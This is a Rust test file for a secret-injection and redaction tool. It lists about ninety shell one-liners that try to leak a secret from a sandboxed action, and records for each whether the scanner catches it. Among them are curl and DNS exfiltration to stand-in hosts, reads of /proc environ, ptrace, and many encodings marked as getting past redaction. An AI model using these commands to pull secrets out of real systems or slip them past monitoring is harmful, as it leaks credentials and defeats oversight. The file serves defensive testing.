//! A corpus of attempts to get a value out of an action, each with what becomes of it. docs/nl-attacks.md lists them
//! as they are here; `KEYLESS_BLESS=1` writes its table anew.

use std::{fmt::Write, fs, path::Path};

use serde_json::{Value, json};

use super::{BOXED, submit};
use crate::world::World;

/// What becomes of an attempt on a value that is in the jail.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Fate {
    /// It is taken out, and the log has an incident.
    Found,
    /// There is nothing to be had.
    Nothing,
    /// It gets past the scanner: what the program wrote is not the value in any form that is looked for.
    Passes,
}
use Fate::{Found, Nothing, Passes};

/// What is tried, how, and its fate. `$V` is the value.
const ATTEMPTS: &[(&str, &str, Fate)] = &[
    ("as it is", "echo $V", Found),
    ("on standard error", "echo $V >&2", Found),
    (
        "half on each stream",
        "printf %s ${V%????????????????????}; printf %s ${V#${V%????????????????????}} >&2",
        Found,
    ),
    (
        "in turns on both streams",
        "A=${V%????????????????????}; B=${V#$A}; C=${B%??????????}; printf %s $A; sleep 2; printf %s $C >&2; sleep 2; printf %s ${B#$C}",
        Found,
    ),
    ("in an error text of a program", "ls /$V", Found),
    ("as the trace of a shell", "set -x; : $V", Found),
    ("as a file's name", "touch /tmp/$V; ls /tmp", Found),
    ("base64, wrapped", "printf %s $V | base64 -w 8", Found),
    ("base64, at another alignment", "printf %s ab$V | base64", Found),
    ("base64 of base64", "printf %s $V | base64 | base64", Found),
    ("base64 of hex", "printf %s $V | od -An -v -tx1 | tr -d ' \\n' | base64", Found),
    ("base32", "printf %s $V | base32", Found),
    ("base32, at another alignment", "printf %s ab$V | base32", Found),
    ("hex with blanks", "printf %s $V | od -An -v -tx1", Found),
    ("hex in words", "printf %s $V | od -An -v -x", Found),
    ("percent escapes", "printf %s $V | od -An -v -tx1 | tr -d '\\n' | tr ' ' %", Found),
    ("escapes of C", "printf %s $V | od -An -v -tx1 | tr -d '\\n' | sed 's/ /\\\\x/g'", Found),
    (
        "escapes of HTML",
        "printf %s $V | od -An -v -tu1 | tr -s ' \\n' ' ' | sed 's/ \\([0-9]*\\)/\\&#\\1;/g'",
        Found,
    ),
    ("UTF-16", "printf %s $V | iconv -t UTF-16LE", Found),
    ("reversed", "echo $V | rev", Found),
    ("rot13", "echo $V | tr a-zA-Z n-za-mN-ZA-M", Found),
    ("another case", "echo $V | tr a-z A-Z", Found),
    ("a character a line", "printf %s $V | fold -w 1", Found),
    ("coloured", "printf %s $V | sed 's/./\\x1b[31m&/g'", Found),
    (
        "cut by a title of the terminal",
        "printf '%s\\033]0;t\\007%s' ${V%????????????????????} ${V#${V%????????????????????}}",
        Found,
    ),
    ("behind a title's introducer", "printf '\\033]0;%s\\007' $V", Found),
    ("with NUL between", "printf %s $V | sed 's/./&\\x00/g'", Found),
    (
        "as a list of its characters",
        "python3 -c 'import json, sys; print(json.dumps(list(sys.argv[1])))' $V",
        Found,
    ),
    ("three fifths of it", "printf %s $V | cut -c1-30", Found),
    (
        "all but its first and last characters",
        "printf %s $V | cut -c3- | rev | cut -c3- | rev",
        Found,
    ),
    (
        "from the environment of a program that it starts",
        "sh -c 'env; cat /proc/self/environ' | grep -c \"$V\"",
        Nothing,
    ),
    (
        "from what a program that it starts can see of others",
        "env -i sh -c 'cat /proc/*/environ'",
        Found,
    ),
    (
        "from the next action's files",
        "echo $V > /tmp/left; echo $V > /dev/shm/left 2>/dev/null; true",
        Nothing,
    ),
    (
        "as a core dump",
        "ulimit -c unlimited 2>/dev/null; ulimit -c; cat /proc/self/coredump_filter; sh -c 'kill -SEGV $$'; ls /tmp",
        Nothing,
    ),
    ("by looking into another process", "grep -E 'NoNewPrivs|CapEff' /proc/self/status", Nothing),
    (
        "by tracing the shell that has it",
        "python3 -c 'import ctypes, os; print(ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0))'",
        Nothing,
    ),
    ("by a process that stays", "(setsid sleep 300 &) ; true", Nothing),
    ("over the network", "curl -sS -m 3 http://203.0.113.7/$V >/dev/null 2>&1 || true", Nothing),
    ("as a name that is looked up", "getent hosts $V.evil.test || true", Nothing),
    ("struck over, as a manual page has it", "printf %s $V | sed 's/./&\\x08&/g'", Found),
    ("underlined by striking over", "printf %s $V | sed 's/./_\\x08&/g'", Found),
    ("with a character set named between", "printf %s $V | sed 's/./&\\x1b(B\\x1b[m/g'", Found),
    ("with a control of one character between", "printf %s $V | sed 's/./&\\xc2\\x9b1m/g'", Found),
    ("with DEL between", "printf %s $V | sed 's/./&\\x7f/g'", Found),
    ("with a joiner of no width between", "printf %s $V | sed 's/./&\\xcd\\x8f/g'", Found),
    ("with tags between", "printf %s $V | sed 's/./&\\xf3\\xa0\\x80\\x81/g'", Found),
    (
        "escapes of HTML without their semicolons",
        "printf %s $V | od -An -v -tu1 | tr -s ' \\n' ' ' | sed 's/ \\([0-9]*\\)/\\&#\\1/g'",
        Found,
    ),
    (
        "in two strings that a program joins",
        "echo \"'${V%????????????????????}' + '${V#${V%????????????????????}}'\"",
        Found,
    ),
    ("as lines that a patch adds", "printf %s $V | fold -w 15 | sed 's/^/+/'", Found),
    ("as lines of a quotation", "printf %s $V | fold -w 15 | sed 's/^/> /'", Found),
    (
        "base32, in the alphabet that sorts",
        "python3 -c 'import base64, sys; print(base64.b32hexencode(sys.argv[1].encode()).decode())' $V",
        Found,
    ),
    ("hex of UTF-16", "printf %s $V | iconv -t UTF-16BE | od -An -v -tx1", Found),
    ("hex, reversed", "printf %s $V | od -An -v -tx1 | tr -d ' \\n' | rev", Found),
    ("compressed", "printf %s $V | gzip | base64", Found),
    ("compressed, as it is", "printf %s $V | gzip", Found),
    ("compressed, in hex", "printf %s $V | gzip | od -An -v -tx1", Found),
    (
        "compressed as zlib does, among other words",
        "python3 -c 'import base64, sys, zlib; print(base64.urlsafe_b64encode(zlib.compress(b\"it is \" + sys.argv[1].encode())).decode())' $V",
        Found,
    ),
    ("compressed twice", "printf %s $V | gzip | gzip | base64", Passes),
    ("compressed behind another byte", "(printf a; printf %s $V | gzip) | base64", Passes),
    ("a few characters per action", "printf %s $V | cut -c8-12", Passes),
    ("every other character", "printf %s $V | sed 's/\\(.\\)./\\1/g'", Passes),
    ("another alphabet", "printf %s $V | tr a-f0-9 g-v", Passes),
    ("numbers of the characters", "printf %s $V | od -An -v -tu1", Passes),
    ("the same in octal, without backslashes", "printf %s $V | od -An -v -to1", Passes),
    ("hex in lines with offsets (`hexdump -C`, `xxd`)", "printf %s $V | od -v -tx1", Passes),
    ("characters that are numbered", "printf %s $V | fold -w 1 | cat -n", Passes),
    ("dots between the characters", "printf %s $V | sed 's/./&./g'", Found),
    ("brackets around each of them", "printf %s $V | sed 's/./[&]/g'", Found),
    ("marks over each of them", "printf %s $V | sed 's/./&\\xcc\\x81/g'", Found),
    (
        "wide letters",
        "python3 -c 'import sys; sys.stdout.buffer.write(\"\".join(chr(ord(c) + 0xfee0) for c in sys.argv[1]).encode())' $V",
        Found,
    ),
    ("base64, reversed", "printf %s $V | base64 -w 0 | rev", Found),
    ("base64 of base64 of base64", "printf %s $V | base64 | base64 | base64", Passes),
    ("base64 of UTF-16", "printf %s $V | iconv -t UTF-16LE | base64 -w 0", Found),
    (
        "base85",
        "python3 -c 'import base64, sys; print(base64.b85encode(sys.argv[1].encode()).decode())' $V",
        Passes,
    ),
    (
        "uuencoded",
        "python3 -c 'import binascii, sys; sys.stdout.buffer.write(binascii.b2a_uu(sys.argv[1][:45].encode()))' $V",
        Passes,
    ),
    (
        "escapes of mail (quoted-printable)",
        "printf %s $V | od -An -v -tx1 | tr -d '\\n' | sed 's/ /=/g'",
        Found,
    ),
    ("controls of one byte between", "printf %s $V | sed 's/./&\\x9b1m/g'", Passes),
    (
        "a joiner of no width between, escaped",
        "python3 -c 'import json, sys; print(json.dumps(chr(0x34f).join(sys.argv[1])))' $V",
        Passes,
    ),
    (
        "numbers of Unicode (`U+0061`)",
        "python3 -c 'import sys; print(*[f\"U+{ord(c):04X}\" for c in sys.argv[1]])' $V",
        Passes,
    ),
    (
        "EBCDIC",
        "python3 -c 'import sys; sys.stdout.buffer.write(sys.argv[1].encode(\"cp037\"))' $V",
        Passes,
    ),
    (
        "letters of another script that look the same",
        "python3 -c 'import sys; print(sys.argv[1].translate({97: 1072, 99: 1089, 101: 1077}))' $V",
        Passes,
    ),
    ("each letter twice", "printf %s $V | sed 's/./&&/g'", Passes),
    ("letters in pairs that are swapped", "printf %s $V | dd conv=swab 2>/dev/null", Passes),
    (
        "as one number",
        "python3 -c 'import sys; print(int.from_bytes(sys.argv[1].encode(), \"big\"))' $V",
        Passes,
    ),
    (
        "in bits",
        "python3 -c 'import sys; print(\"\".join(f\"{ord(c):08b}\" for c in sys.argv[1]))' $V",
        Passes,
    ),
    (
        "its second half, and the first right behind it",
        "A=${V%????????????????????}; printf %s%s ${V#$A} $A",
        Passes,
    ),
    ("a tag between the characters", "printf %s $V | sed 's/./&<b>/g'", Passes),
    ("a comment between the characters", "printf %s $V | sed 's,.,&/**/,g'", Passes),
    (
        "in pieces with names",
        "python3 -c 'import json, sys; v = sys.argv[1]; print(json.dumps({f\"k{i}\": v[i:i + 5] for i in range(0, len(v), 5)}))' $V",
        Passes,
    ),
    ("a backslash between the characters", "printf %s $V | sed 's/./&\\\\/g'", Found),
    ("as an exit status", "exit $(printf %d \"'${V#canary_}\")", Passes),
];

fn attempt(reference: &str, script: &str) -> Value {
    json!({ "type": "exec", "template": format!("V={{{{nl:{reference}}}}}\n{script}") })
}

#[test]
fn each_attempt_on_a_value_in_a_jail_has_its_known_fate() {
    let world = World::with_store();
    world.add(BOXED, &[]).ok();
    let actions: Vec<Value> =
        ATTEMPTS.iter().map(|(_, script, _)| attempt("db/PASSWORD", script)).collect();
    let mut responses = Vec::new();
    for some in actions.chunks(20) {
        responses.extend(submit(&world, some));
    }
    for ((name, _, fate), response) in ATTEMPTS.iter().zip(&responses) {
        let found = response["redacted"] == json!(true);
        assert_eq!(found, *fate == Found, "{name}: {response}");
        assert_ne!(response["result"], json!(null), "{name}: {response}");
    }
    let result = |name: &str| {
        let at = ATTEMPTS.iter().position(|(known, ..)| *known == name).unwrap();
        responses[at]["result"]["stdout"].as_str().unwrap().to_owned()
    };
    assert_eq!(result("from the environment of a program that it starts"), "0\n");
    assert!(result("as a core dump").starts_with("0\n00000000\n"), "{}", result("as a core dump"));
    assert_eq!(result("by tracing the shell that has it"), "-1\n");
    let confined = result("by looking into another process");
    assert!(confined.contains("NoNewPrivs:\t1"), "{confined}");
    assert!(confined.contains("CapEff:\t0000000000000000"), "{confined}");
    // The value, taken apart by hand: these are what docs/nl-attacks.md admits.
    let value = world.canary.value();
    assert_eq!(result("a few characters per action").trim_end(), &value[7..12]);
    let status = responses.last().unwrap()["result"]["exit_code"].as_u64().unwrap();
    assert_eq!(status, u64::from(value.as_bytes()["canary_".len()]));
}

/// Quotes become something else in every trace and message, a different thing in each.
#[test]
fn a_value_with_quotes_is_found_in_whatever_quotes_it() {
    let world = World::with_store();
    let value = "Tr0ub4dor'&3$x9!Kq\"z";
    let add = ["secret", "add", "team/db/quote", "--value-stdin", "--allow-weak"];
    world.keyless(&add).stdin(value).run().ok();
    let scripts = [
        "bash -c 'set -x; : \"$1\"' _ \"$V\"",
        "sh -c 'set -x; : \"$1\"' _ \"$V\"",
        "bash -c 'echo \"${1@Q}\"' _ \"$V\"",
        "bash -c 'printf %q \"$1\"' _ \"$V\"",
        "python3 -c 'import shlex, sys; print(shlex.quote(sys.argv[1]))' \"$V\"",
        "python3 -c 'import sys; print(ascii(sys.argv[1]))' \"$V\"",
        "printf %s \"$V\" | sed \"s/'/''/g\"",
    ];
    let actions: Vec<Value> = scripts.map(|script| attempt("db/QUOTE", script)).into();
    for (script, response) in scripts.iter().zip(submit(&world, &actions)) {
        let told = response.to_string();
        assert_eq!(response["redacted"], json!(true), "{script}: {told}");
        assert!(!told.contains("ub4dor") && !told.contains("9!Kq"), "{script}: {told}");
    }
}

#[test]
fn what_one_action_leaves_the_next_does_not_find() {
    let world = World::with_store();
    world.add(BOXED, &[]).ok();
    let responses = submit(
        &world,
        &[
            attempt(
                "db/PASSWORD",
                "echo $V > /tmp/left; ln -s /etc/passwd /tmp/nl-secure; echo $V > /dev/shm/left; (setsid sleep 300 &); true",
            ),
            json!({ "type": "exec", "template": "ls -A /tmp /dev/shm; ps -e 2>/dev/null | grep -c sleep; ls /proc | grep -c '^[0-9]'" }),
            json!({ "type": "template", "template_content": "{{nl:db/PASSWORD}}", "output_path": "/tmp/nl-secure/a" }),
            json!({ "type": "exec", "template": "ls -l /tmp/nl-secure/a | cut -c1-10; wc -c < /etc/passwd > /dev/null" }),
        ],
    );
    let left = responses[1]["result"]["stdout"].as_str().unwrap();
    assert!(!left.contains("left") && !left.contains("nl-secure"), "{left}");
    assert_eq!(responses[3]["result"]["stdout"], "-rw-------\n", "{}", responses[3]);
}

#[test]
fn a_bound_value_is_in_no_attempt() {
    let world = World::with_token();
    // Without a value an action sees its author's files, and so would leave one there.
    let tried = ATTEMPTS.iter().filter(|(name, ..)| *name != "from the next action's files");
    let actions: Vec<Value> = tried.map(|(_, script, _)| attempt("api/TOKEN", script)).collect();
    // Nothing is taken out, since nothing is there; that no form of it is anywhere, the world looks for itself.
    for response in actions.chunks(20).flat_map(|some| submit(&world, some)) {
        assert_eq!(response["redacted"], json!(false), "{response}");
    }
}

#[test]
fn a_placeholder_in_a_value_means_nothing() {
    let world = World::with_store();
    world.add(BOXED, &[]).ok();
    let add = ["secret", "add", "team/db/nested", "--value-stdin", "--allow-weak"];
    world.keyless(&add).stdin("{{nl:db/PASSWORD}} and more of it").run().ok();
    let responses = submit(
        &world,
        &[
            attempt("db/NESTED", "printf %s \"$V\" | wc -c"),
            json!({ "type": "template", "template_content": "{{nl:db/NESTED}}", "output_path": "a" }),
            json!({ "type": "exec", "template": "wc -c < /tmp/nl-secure/a" }),
        ],
    );
    assert_eq!(responses[0]["result"]["stdout"], "33\n", "{}", responses[0]);
    assert_eq!(responses[1]["result"]["resolved_count"], 1);
    assert_eq!(responses[2]["result"]["stdout"], "33\n", "{}", responses[2]);
}

#[test]
fn the_document_lists_every_attempt() {
    let file = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/nl-attacks.md");
    let written = fs::read_to_string(&file).unwrap();
    let (head, rest) = written.split_once("| what is tried |").unwrap();
    let (_, tail) = rest.split_once("\n\n").unwrap_or_default();
    let mut table = "| what is tried | how | what becomes of it |\n|---|---|---|\n".to_owned();
    for (name, script, fate) in ATTEMPTS {
        let fate = match fate {
            Found => "found, taken out",
            Nothing => "nothing to be had",
            Passes => "**gets past**",
        };
        let script = script.replace('|', "\\|");
        writeln!(table, "| {name} | `{script}` | {fate} |").unwrap();
    }
    let expected = format!("{head}{table}\n{tail}");
    let blessed = std::env::var_os("KEYLESS_BLESS").is_some();
    if blessed {
        fs::write(&file, &expected).unwrap();
    }
    assert!(
        blessed || expected == written,
        "docs/nl-attacks.md is not as the corpus: KEYLESS_BLESS=1"
    );
}
